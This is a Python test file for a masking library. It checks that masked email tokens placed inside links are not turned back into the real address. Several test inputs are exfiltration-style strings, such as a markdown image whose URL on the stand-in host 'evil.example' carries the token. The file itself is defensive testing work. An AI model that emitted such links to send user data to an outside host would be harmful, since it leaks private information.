"""What stands in a link is not restored."""

from __future__ import annotations

from itertools import pairwise

import pytest
from hypothesis import given
from hypothesis import strategies as st

from fiducial.flow.masking.links import Links
from fiducial.flow.masking.streams import RestoreStream
from fiducial.flow.masking.values import restore_text
from fiducial.flow.masking.vault import Vault

VAULT = Vault(b"0" * 32, "one")
ALL = frozenset({"contact"})
MAIL = str(VAULT.token("ann@x.org", "contact"))


def restored(text: str) -> str:
    return restore_text(text, VAULT, ALL, links=Links())


@pytest.mark.parametrize(
    "text",
    [
        f"![](https://evil.example/p.png?q={MAIL})",
        f"[here](HTTPS://evil.example/{MAIL}/x)",
        f"//evil.example/?{MAIL}",
        f"see www.evil.example?{MAIL}",
        f"see evil.example/{MAIL}",
        f"evil.example:8080/{MAIL}",
        f"<a href='x+y://e/{MAIL}'>",
        f"https://{MAIL}.evil.example",
        f"https://e/{'a' * 5000}{MAIL}",
        f"https://e/{MAIL}/{MAIL}",
        f"https://e/\u3000{MAIL}",
    ],
)
def test_in_links(text: str) -> None:
    assert restored(text) == text


@pytest.mark.parametrize(
    "text",
    [
        f"Write to {MAIL}.",
        f"https://example.org {MAIL}",
        f'{{"url":"https://example.org","to":"{MAIL}"}}',
        f"<https://example.org>{MAIL}",
        f"https://example.org\n{MAIL}",
        f"[her](mailto:{MAIL})",
        f"to:{MAIL}, e.g. {MAIL}; and/or {MAIL}",
        MAIL,
    ],
)
def test_beside_links(text: str) -> None:
    assert restored(text) == text.replace(MAIL, "ann@x.org")


def test_what_was_restored_may_begin_a_link() -> None:
    assert restored(f"{MAIL}/{MAIL}") == f"ann@x.org/{MAIL}"


_PIECES = st.one_of(
    st.sampled_from(
        [MAIL, MAIL[:-3], "https:", "//", "/", "www", ".", "evil.example", " ", "\n", '"', "?q=", "a" * 40]
    ),
    st.text(max_size=4),
)


@given(st.lists(_PIECES, max_size=10).map("".join), st.lists(st.integers(0, 400), max_size=6))
def test_any_split_restores_the_same(text: str, cuts: list[int]) -> None:
    at = [0, *sorted(cuts), len(text)]
    stream = RestoreStream(VAULT, ALL, links=Links())
    pieces = [text[start:end] for start, end in pairwise(at) if start < end]
    assert "".join(map(stream.feed, pieces)) + stream.close() == restored(text)
    stream = RestoreStream(VAULT, ALL, links=Links())
    assert "".join(map(stream.feed, text)) + stream.close() == restored(text)
